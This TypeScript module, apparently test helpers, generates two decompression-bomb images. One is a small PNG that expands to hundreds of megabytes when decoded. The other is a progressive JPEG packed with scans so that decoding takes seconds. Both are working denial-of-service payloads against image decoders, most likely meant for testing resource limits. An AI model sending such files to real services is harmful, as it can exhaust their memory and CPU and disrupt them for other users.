import { once } from 'node:events'
import { crc32, createDeflate } from 'node:zlib'
import { buffer } from 'node:stream/consumers'

/** Returns a PNG of 52 megapixels, 16 bits and interlaced, all black: 2 MB that take a decoder 415 MB. */
export const memoryBomb = async (side = 7_200): Promise<Buffer> => {
  const bytesPerPixel = 8
  const passes = [
    [0, 0, 8, 8],
    [4, 0, 8, 8],
    [0, 4, 4, 8],
    [2, 0, 4, 4],
    [0, 2, 2, 4],
    [1, 0, 2, 2],
    [0, 1, 1, 2],
  ] as const
  const sizes = passes.map(([x, y, dx, dy]) => {
    const [columns, rows] = [Math.ceil((side - x) / dx), Math.ceil((side - y) / dy)]
    return rows * (1 + columns * bytesPerPixel)
  })
  const deflate = createDeflate({ level: 1 })
  const packed = buffer(deflate)
  const zeros = Buffer.alloc(1024 * 1024)
  for (let left = sizes.reduce((sum, size) => sum + size, 0); left > 0; left -= zeros.length)
    if (!deflate.write(zeros.subarray(0, left))) await once(deflate, 'drain')
  deflate.end()

  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([16, 6, 0, 0, 1], 8)
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', await packed), chunk('IEND', Buffer.alloc(0))])
}

const chunk = (type: string, data: Buffer): Buffer => {
  const named = Buffer.concat([Buffer.from(type), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/**
 * Returns a grey JPEG of 40 megapixels with as many progressive scans as the format allows, each of which marks all its blocks as black with one
 * code: 130 KB that keep a decoder busy for 10 s.
 */
export const timeBomb = (side = 7_200): Buffer => {
  const blocks = Math.ceil(side / 8) ** 2
  const size = [side >> 8, side & 0xff]
  const scans: Buffer[] = []
  for (let precision = 13; precision >= 0; precision -= 1)
    for (let coefficient = 1; coefficient < 64; coefficient += 1) {
      const before = precision === 13 ? 0 : precision + 1
      const begin = [0xff, 0xda, 0, 8, 1, 1, 0, coefficient, coefficient, (before << 4) | precision]
      scans.push(Buffer.from(begin), endOfBlocks(blocks))
    }
  return Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xdb, 0, 67, 0, ...Array<number>(64).fill(1)]),
    Buffer.from([0xff, 0xc2, 0, 11, 8, ...size, ...size, 1, 1, 0x11, 0]),
    // Two tables of one code each: no difference to the block before, and a run of ends of blocks.
    Buffer.from([0xff, 0xc4, 0, 20, 0x00, 1, ...Array<number>(15).fill(0), 0x00]),
    Buffer.from([0xff, 0xc4, 0, 20, 0x10, 1, ...Array<number>(15).fill(0), 0xe0]),
    Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 0, 0, 0]),
    Buffer.alloc(Math.ceil(blocks / 8)),
    ...scans,
    Buffer.from([0xff, 0xd9]),
  ])
}

const endOfBlocks = (blocks: number): Buffer => {
  let bits = ''
  for (let left = blocks; left > 0;) {
    const run = Math.min(left, 32_767)
    bits += `0${(run - 16_384).toString(2).padStart(14, '0')}`
    left -= run
  }
  const bytes = (bits.padEnd(Math.ceil(bits.length / 8) * 8, '1').match(/.{8}/g) ?? []).map((byte) =>
    Number.parseInt(byte, 2),
  )
  return Buffer.from(bytes.flatMap((byte) => (byte === 0xff ? [0xff, 0] : [byte])))
}
